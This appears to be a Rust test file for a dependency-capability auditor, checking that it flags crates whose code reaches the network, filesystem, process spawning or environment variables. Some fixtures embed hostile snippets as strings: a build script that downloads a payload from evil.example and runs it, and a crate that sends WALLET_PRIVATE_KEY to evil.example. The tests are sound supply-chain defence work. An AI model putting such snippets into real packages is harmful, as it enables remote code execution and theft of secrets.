        "macro_rules! T { [mod] => { 1 }; [fn] => { 2 } } pub fn g() -> u8 { T![mod] + T![fn] }",
        "pub fn g() { util::quote! { mod #name { } mod #name; include!(#file) } }",
        "macro_rules! words { ($($k:tt => $v:expr),*) => { [$((stringify!($k), $v)),*] } } pub const W: [(&str, u8); 2] = words![mod => 1, fn => 2];",
        "macro_rules! all { ($($t:tt)*) => { $($t)* } } all! { mod a { } #[cfg(any())] mod b; }",
        "macro_rules! m { ($n:ident) => { mod $n { } } } m!(a); mod b { m!(c); }",
        "macro_rules! m { () => { #[cfg(test)] mod tests; } } mod a { m!(); } mod b { m!(); }",
        "pub fn g(include: bool) { assert!(include); println!(\"{}\", include); }",
        "macro_rules! each { ($m:ident) => { $m!(1); $m!(2); } } macro_rules! one { ($t:tt) => { } } each!(one);",
    ];
    for codec in cases {
        for refused in ["", REFUSED[0]] {
            let codec = format!("{codec}\npub fn go() {{}}\n{refused}");
            let plain = workspace("pub fn f() { codec::go(); }", &codec, "");
            assert_eq!(unknown(&plain), [""; 0], "{codec}");
        }
    }
}

/// Each place in which the files of a macro are read is counted.
#[test]
fn the_files_of_macros_are_read_up_to_the_limit_and_no_further() {
    let limit = cofferdam_audit::limits::MACRO_PLACES_MAX;
    for (places, said) in [(limit, 0), (limit + 1, 1)] {
        let uses: Vec<String> = (0..places).map(|place| format!("mod a{place} {{ m!(); }}\n")).collect();
        let uses = uses.concat();
        let codec = format!("macro_rules! m {{ () => {{ include!(\"x.in\"); }} }}\n{uses}pub fn go() {{}}");
        let many = workspace("pub fn f() { codec::go(); }", &codec, "");
        many.write("codec/src/x.in", "const A: u8 = 0;");
        assert_eq!(unknown(&many).len(), said, "{places}: {:?}", unknown(&many));
    }
}

/// What a macro may do is looked for in the macros that it uses, and past a limit everything is expected of it.
#[test]
fn the_macros_behind_a_macro_are_followed_up_to_the_limit_and_no_further() {
    let limit = cofferdam_audit::limits::MACROS_BEHIND_MAX;
    for (behind, found) in
        [(limit, BTreeSet::new()), (limit + 1, BTreeSet::from(["filesystem.write".to_owned()]))]
    {
        let used: Vec<String> = (0..behind).map(|one| format!("a{one}!();\n")).collect();
        let used = used.concat();
        let codec = format!(
            "macro_rules! m {{ ($($t:tt)*) => {{ $($t)* }}; (@) => {{ {used} }} }}\n\
             m! {{ #[cfg(any())] pub fn h() {{ std::fs::remove_file(\"a\").ok(); }} pub fn go() {{ h() }} }}"
        );
        assert_eq!(brought(&workspace("pub fn f() { codec::go(); }", &codec, "")), found, "{behind}");
    }
}

/// A raw word names the same macro.
#[test]
fn raw_names_of_macros_hide_nothing() {
    for codec in [
        "r#include!(\"x.in\"); pub fn go() { q(\"a\") }",
        "macro_rules! m { () => { mod z; } } r#m!(); pub fn go() { z::q(\"a\") }",
    ] {
        let hidden = workspace("pub fn f() { codec::go(); }", codec, "");
        hidden.write("codec/src/x.in", REMOVES);
        hidden.write("codec/src/z.rs", REMOVES);
        assert!(brought(&hidden).contains("filesystem.write"), "{codec}");
    }
}

#[test]
fn a_refused_file_without_modules_is_nothing_to_report() {
    for refused in REFUSED {
        let codec =
            format!("{refused}\nmod a {{ pub fn g() -> u32 {{ 1 }} }} pub fn go() -> u32 {{ a::g() }}");
        let plain = workspace("pub fn f() { codec::go(); }", &codec, "");
        plain.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
        assert_eq!(audit(&plain)["by_token"], 1, "{refused}");
        assert_eq!(brought(&plain), BTreeSet::new(), "{refused}");
        let check = run(&plain, &["check"]);
        assert_eq!(check.code, Some(0), "{refused}: {check}");
        assert!(!check.stderr.contains("not-analysed"), "{refused}: {check}");
    }
}

/// After RUSTSEC-2026-0260: a release of a pure crate adds nothing but a dependency, whose build script fetches and runs a payload.
#[test]
fn a_pure_crate_that_gains_a_dependency_with_a_build_script_is_stopped() {
    let workspace = workspace("pub fn f() { codec::pure() }", "pub fn pure() {}", "");
    workspace.write(
        "codec/Cargo.toml",
        "[package]\nname = \"codec\"\nversion = \"0.3.9\"\nedition = \"2024\"\n\n[dependencies]\n",
    );
    workspace.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
    assert_eq!(run(&workspace, &["init"]).code, Some(0));
    assert_eq!(run(&workspace, &["check"]).code, Some(0));
    let manifest = workspace.read("codec/Cargo.toml").replace("0.3.9", "0.3.10");
    workspace.write(
        "codec/Cargo.toml",
        &manifest.replace("[dependencies]\n", "[dependencies]\nutil = { path = \"../util\" }\n"),
    );
    workspace.write(
        "util/build.rs",
        "use std::io::Read; fn main() { let mut s = std::net::TcpStream::connect(\"evil.example:80\").unwrap(); let mut b = Vec::new(); \
         s.read_to_end(&mut b).unwrap(); std::fs::write(\"/tmp/x\", b).unwrap(); std::process::Command::new(\"/tmp/x\").spawn().unwrap(); }",
    );
    let check = run(&workspace, &["check"]);
    assert_eq!(check.code, Some(4), "{check}");
    for capability in
        ["build.script", "build.network.connect", "build.process.spawn", "build.filesystem.write"]
    {
        let message = format!("`app` does not grant `{capability}` to `codec`, whose code reaches it");
        assert!(check.stderr.contains(&message), "{message}: {check}");
    }
    assert!(
        check.stderr.contains(
            "warning[new-edge]: `codec` did not depend on `util` when `Cofferdam.lock` was written"
        ),
        "{check}"
    );
    assert!(check.stderr.contains("more findings follow from these"), "the edges below are folded: {check}");
}

/// After the crate that read a wallet's key from the environment and sent it away.
#[test]
fn a_crate_that_steals_a_variable_is_stopped() {
    let workspace = workspace("pub fn f() { codec::health() }", "pub fn health() {}", "");
    workspace.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
    assert_eq!(run(&workspace, &["init"]).code, Some(0));
    workspace.write(
        "codec/src/lib.rs",
        "pub fn health() { if let Ok(key) = std::env::var(\"WALLET_PRIVATE_KEY\") { use std::io::Write; \
         let _ = std::net::TcpStream::connect((\"evil.example\", 80)).unwrap().write_all(key.as_bytes()); } }",
    );
    let check = run(&workspace, &["check"]);
    assert_eq!(check.code, Some(4), "{check}");
    for capability in ["environment.read", "network.connect"] {
        let message = format!("does not grant `{capability}` to `codec`, whose code reaches it");
        assert!(check.stderr.contains(&message), "{message}: {check}");
    }
    assert!(check.stderr.contains("codec: health (src/lib.rs:1)"), "the way is shown: {check}");
}

/// A build script of a dependency that was accepted, and is another one now although its version is the same.
#[test]
fn a_changed_build_script_is_an_error_even_when_it_reaches_nothing_new() {
    let workspace = Workspace::new(&[
        ("Cargo.toml", "[workspace]\nmembers = [\"app\"]\nresolver = \"3\"\nexclude = [\"vendor\"]\n"),
        (
            "app/Cargo.toml",
            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nleaf = { path = \"../vendor/leaf\" }\n",
        ),
        (
            "vendor/leaf/Cargo.toml",
            "[workspace]\n[package]\nname = \"leaf\"\nversion = \"0.1.0\"\nedition = \"2024\"\n",
        ),
    ]);
    workspace.write("vendor/leaf/build.rs", "mod part; fn main() { part::go() }");
    workspace.write("vendor/leaf/part.rs", "pub fn go() { let _ = std::fs::read(\"a\"); }");
    assert_eq!(run(&workspace, &["init"]).code, Some(0));
    let record = workspace.read("Cofferdam.lock");
    assert!(
        record.contains("    \"app -> leaf\",\n") && record.contains("\n\"leaf 0.1.0\" = \""),
        "{record}"
    );
    assert_eq!(run(&workspace, &["check"]).code, Some(0));
    // Its second file: the script is all that it is made of.
    workspace.write("vendor/leaf/part.rs", "pub fn go() { let _ = std::fs::read(\"b\"); }");
    let check = run(&workspace, &["check"]);
    assert_eq!(check.code, Some(4), "{check}");
    assert!(
        check
            .stderr
            .contains("error[build-script-changed]: the build script of `leaf 0.1.0` is another than when"),
        "{check}"
    );
    assert_eq!(run(&workspace, &["init"]).code, Some(0));
    assert_eq!(run(&workspace, &["check"]).code, Some(0));
    // A record that is no record is refused, with the line.
    workspace.write("Cofferdam.lock", "version = 1\nedges = [\n    1,\n]\n");
    let check = run(&workspace, &["check"]);
    assert_eq!(check.code, Some(3), "{check}");
    assert!(check.stderr.contains("`Cofferdam.lock` line 3"), "{check}");
}

/// `policies/crates/` says that `itoa` reaches nothing. A release that does is named, with the way there.
#[test]
fn a_release_that_reaches_more_than_its_claim_is_a_finding() {
    let workspace = workspace("pub fn f() { itoa::format() }", "", "");
    workspace.append("app/Cargo.toml", "itoa = \"1\"\n");
    workspace.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
    workspace.write(
        ".cargo/config.toml",
        "[source.crates-io]\nreplace-with = \"here\"\n[source.here]\ndirectory = \"vendor\"\n",
    );
    workspace.write("vendor/itoa/.cargo-checksum.json", "{\"files\":{}}");
    workspace.write(
        "vendor/itoa/Cargo.toml",
        "[package]\nname = \"itoa\"\nversion = \"1.99.0\"\nedition = \"2021\"\n",
    );
    let release = |body: &str| {
        workspace.write("vendor/itoa/src/lib.rs", &format!("pub fn format() {{ {body} }}\n"));
        run(&workspace, &["check"])
    };
    let check = release("let _ = std::net::TcpStream::connect(\"evil.example:80\");");
    assert!(
        check.stderr.contains("warning[claim-disagrees]: `itoa` 1.99.0 uses `network.connect`"),
        "{check}"
    );
    let check = release("");
    assert!(!check.stderr.contains("claim-disagrees"), "{check}");
}

#[test]
fn a_grant_that_no_code_uses_is_a_finding() {
    let workspace = workspace("pub fn f() { codec::g() }", "pub fn g() { std::thread::spawn(|| {}); }", "");
    workspace.append(
        "Cargo.toml",
        "\n[workspace.metadata.capabilities.holds]\nclock = true\nthread = true\n\n\
         [workspace.metadata.capabilities.grants.\"app -> codec\"]\nthread = true\nclock = true\n",
    );
    let check = run(&workspace, &["check"]);
    assert!(
        check.stderr.contains(
            "warning[grant-not-reached]: `app` grants `clock` to `codec`, and no code behind that edge uses it"
        ),
        "{check}"
    );
    assert!(!check.stderr.contains("grants `thread` to `codec`, and no code"), "{check}");
}

/// What the source layer is known not to see. Each says what is reported instead, so that a change of it is noticed.
#[test]
fn known_limits_have_an_honest_answer() {
    // A path whose type only another crate names: the question is missed, making the file is not.
    let missed = workspace(
        "pub fn f() { codec::go(); }",
        "pub fn go() -> bool { util::place().exists() }",
        "pub fn place() -> &'static std::path::Path { \"/etc\".as_ref() }",
    );
    assert!(
        !brought(&missed).contains("filesystem.read"),
        "methods are known by the names of their types alone"
    );
    // A system call written as bytes: the form is seen, its meaning is not.
    let bytes = workspace(
        "pub fn f() { codec::go(); }",
        "pub fn go() { unsafe { std::arch::asm!(\".byte 0x0f, 0x05\") } }",
        "",
    );
    let found = brought(&bytes);
    assert!(found.contains("asm") && !found.contains("raw-syscall"), "{found:?}");
    // A path of which both the module and the function are handed to a macro.
    let glued = workspace(
        "pub fn f() { codec::go(); }",
        "macro_rules! call { ($m:ident, $f:ident) => { std::$m::$f(\"x\") } } pub fn go() { let _ = call!(fs, read); }",
        "",
    );
    assert!(!brought(&glued).contains("filesystem.read"), "macros with parameters are not expanded");
    // What a procedural macro writes is not read; that it runs is said.
    let written = workspace("pub fn f() { codec::go!(); }", "", "");
    written.append("codec/Cargo.toml", "\n[lib]\nproc-macro = true\n");
    written.write(
        "codec/src/lib.rs",
        "#[proc_macro] pub fn go(_: proc_macro::TokenStream) -> proc_macro::TokenStream { \"std::fs::read(\\\"x\\\");\".parse().unwrap() }",
    );
    assert_eq!(brought(&written), BTreeSet::from(["build.proc-macro".to_owned()]));
}
